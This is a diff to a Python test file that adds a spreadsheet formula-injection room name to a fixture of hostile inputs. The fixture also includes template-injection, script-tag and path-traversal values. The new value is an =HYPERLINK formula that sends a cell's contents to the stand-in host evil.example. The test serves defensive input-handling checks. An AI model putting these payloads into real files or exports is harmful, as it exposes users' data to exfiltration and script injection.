@@ -17,6 +17,8 @@ import pytest
 from boxkit import NewKit, new_kit, resolve_answers
 
 HOSTILE = "{{ 7*7 }} <script>alert(1)</script> \"O'Brien: #1\""
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Room 3")'
+"""A room name a spreadsheet would run as a formula."""
 TODAY = dt.date(2026, 11, 23)
 
 
@@ -59,7 +61,8 @@ def hostile_kit(tmp_path_factory: pytest.TempPathFactory) -> NewKit:
     return make_kit(tmp_path_factory.mktemp("hostile") / "kit", country="GB",
                     chapter_name=HOSTILE, event_venue=HOSTILE, event_city="../../etc",
                     event_rooms=[{"name": HOSTILE, "capacity": 40},
-                                 {"name": "Room | 2", "capacity": 20}])
+                                 {"name": "Room | 2", "capacity": 20},
+                                 {"name": FORMULA, "capacity": 10}])
 
 
 def git(cwd: Path, *args: str) -> str:
